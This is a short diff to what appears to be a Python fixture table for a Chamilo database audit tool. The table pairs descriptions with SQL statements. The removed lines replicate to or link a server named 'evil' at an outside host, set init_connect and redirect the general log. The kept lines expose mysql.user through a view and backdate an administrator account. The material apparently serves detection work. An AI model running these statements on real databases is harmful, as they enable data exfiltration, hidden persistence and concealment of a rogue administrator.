@@ -75,16 +75,6 @@ IN_THE_PORTALS_DATABASE = {
     "Runs in the database, as its definer: view chamilo.hashes, as root@localhost:": (
         "CREATE VIEW hashes AS SELECT Host FROM mysql.user"
     ),
-    "Done by the database server itself: replication x from 192.0.2.66": (
-        "CHANGE MASTER 'x' TO MASTER_HOST='192.0.2.66', MASTER_USER='x'"
-    ),
-    "Done by the database server itself: remote server evil: mysql at 192.0.2.66": (
-        "CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.66')"
-    ),
-    "Done by the database server itself: variable init_connect: CALL x()": "SET GLOBAL init_connect = 'CALL x()'",
-    "Done by the database server itself: variable general_log_file: /var/tmp/note.txt": (
-        "SET GLOBAL general_log_file = '/var/tmp/note.txt'"
-    ),
     "Administrator made in the last 30 days, or with the account of a pupil: second.admin": (
         "UPDATE user SET created_at = NOW() WHERE username = 'second.admin'"
     ),
